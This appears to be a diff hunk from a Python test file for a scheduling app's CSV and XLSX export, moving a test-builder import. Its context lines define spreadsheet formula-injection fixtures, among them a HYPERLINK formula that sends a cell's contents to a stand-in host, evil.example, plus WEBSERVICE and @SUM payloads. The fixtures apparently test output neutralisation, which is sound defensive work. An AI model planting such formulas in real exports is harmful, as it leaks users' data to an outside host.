@@ -16,8 +16,8 @@ import pytest
 from schedules.results import results, results_csv
 from schedules.scoring import Criterion, Score, Scoring
 from schedules.tabular import csv_text, neutralise, xlsx_bytes
-from tests.builders import BASE_CSV, write_event
 from tests.conftest import AUTH, start_app
+from tests.support.builders import BASE_CSV, write_event
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&H2,"Click me")'
 HOSTILE = {"a1": LEAK, "a2": "+WEBSERVICE(A1)", "a3": "-2+3", "j1": "@SUM(A1)"}
